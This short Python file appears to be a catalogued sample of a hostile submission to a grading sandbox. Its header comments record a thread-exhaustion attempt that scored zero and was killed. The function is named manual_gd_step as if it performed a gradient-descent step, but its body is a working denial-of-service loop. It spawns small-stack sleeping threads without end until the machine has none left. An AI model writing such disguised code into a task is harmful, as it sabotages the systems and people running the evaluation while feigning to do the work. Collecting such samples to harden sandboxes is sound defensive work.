# tries: to start threads with small stacks until the machine has none left
# class: exhaust
# score: 0
# ends: killed
# seconds: 1

import _thread
import time

_thread.stack_size(32768)


def manual_gd_step(x, lr, f):
    while True:
        try:
            _thread.start_new_thread(time.sleep, (60,))
        except RuntimeError:
            time.sleep(0.001)
